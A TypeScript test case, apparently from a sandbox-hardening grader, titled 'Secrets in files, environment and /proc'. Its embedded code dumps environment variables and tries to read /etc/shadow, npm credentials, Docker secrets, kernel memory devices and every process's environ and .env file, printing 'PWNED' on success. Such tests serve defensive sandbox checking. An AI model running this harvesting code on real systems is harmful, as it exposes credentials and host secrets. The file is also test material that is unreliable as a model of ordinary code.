import { type Attack, modelSource } from '#grader/attack/attack.ts'

export const attack: Attack = {
  number: 10,
  title: 'Secrets in files, environment and /proc',
  intent: 'Find tokens of the host.',
  kind: 'model',
  verdicts: ['scored'],
  source: modelSource({
    buildModel: `const fs = node('fs')
  const found: string[] = [JSON.stringify((globalThis as any).process.env)]
  const places = ['/etc/shadow', '/etc/passwd', '/root/.npmrc', '/run/secrets', '/var/run/docker.sock', '/proc/kcore', '/proc/kmsg', '/dev/mem', '/dev/vda', '/dev/kmsg', '/dev/vsock', '/dev/kvm', '/proc/keys']
  for (const pid of ['self', ...fs.readdirSync('/proc').filter((name: string) => /^[0-9]+$/.test(name))])
    for (const file of ['environ', 'cmdline', 'root/etc/shadow', 'cwd/.env']) places.push('/proc/' + pid + '/' + file)
  for (const place of places) {
    try {
      const text = fs.readFileSync(place, 'latin1')
      found.push(place + ' ' + text)
      if (/shadow|kcore|kmsg|mem$|vda|vsock|kvm|docker/.test(place)) console.log('PWNED read ' + place)
    } catch {}
  }
  console.log(found.join(' '))`,
  }),
  verify({ console }) {
    if (!console.some((line) => line.includes('/tmp'))) throw new Error('the attack did not run')
  },
}
